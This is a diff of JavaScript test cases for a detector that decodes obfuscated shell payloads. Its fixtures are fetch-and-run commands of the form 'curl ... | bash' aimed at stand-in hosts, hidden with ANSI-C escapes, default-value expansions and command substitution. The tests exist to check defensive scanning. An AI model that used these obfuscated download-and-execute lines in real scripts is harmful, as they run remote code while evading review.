@@ -162,6 +162,30 @@ describe('findHiddenPayloads', () => {
     ]);
   });
 
+  it('works out ANSI-C quoting, default values and echoed words, as the shell does, and only into plain words', () => {
+    const found = payloadsOf({
+      'scripts/a.sh': [
+        "$'\\x63url' -s https://c.example/i | $'\\142\\141sh'",
+        '${CMD:-curl} -s https://c.example/j | ${RUN=bash}',
+        'curl -s https://c.example/k | $(echo bash)',
+        'wget -qO- https://c.example/l | `printf sh`',
+        "echo $'a b' ${X:-two words} $(echo \"$HOME\") $'\\q'",
+        '',
+      ].join('\n'),
+    });
+    assert.deepEqual(found, [
+      { how: 'shell expansion', text: 'curl -s https://c.example/i | bash', literal: "$'\\x63url' -s https://c.example/i | $'\\142\\141sh'" },
+      { how: 'shell expansion', text: 'curl -s https://c.example/j | bash', literal: '${CMD:-curl} -s https://c.example/j | ${RUN=bash}' },
+      { how: 'shell expansion', text: 'curl -s https://c.example/k | bash', literal: 'curl -s https://c.example/k | $(echo bash)' },
+      { how: 'shell expansion', text: 'wget -qO- https://c.example/l | sh', literal: 'wget -qO- https://c.example/l | `printf sh`' },
+    ]);
+  });
+
+  it('fills a default expansion with the constant the unit assigns, when there is one', () => {
+    const found = payloadsOf({ 'scripts/a.sh': 'SHELL_BIN=bash\ncurl -s https://c.example/i | ${SHELL_BIN:-sh}\n' });
+    assert.deepEqual(found, [{ how: 'shell variables', text: 'curl -s https://c.example/i | bash', literal: 'curl -s https://c.example/i | ${SHELL_BIN:-sh}' }]);
+  });
+
   it('writes out the command an argument list runs, when every argument is a literal', () => {
     const found = payloadsOf({
       'scripts/a.py': 'import subprocess\nsubprocess.run(["pip", "install", "--index-url", "https://pkgs.example/simple", "tool"])\nsubprocess.run(["git", "commit", "-m", msg])\n',
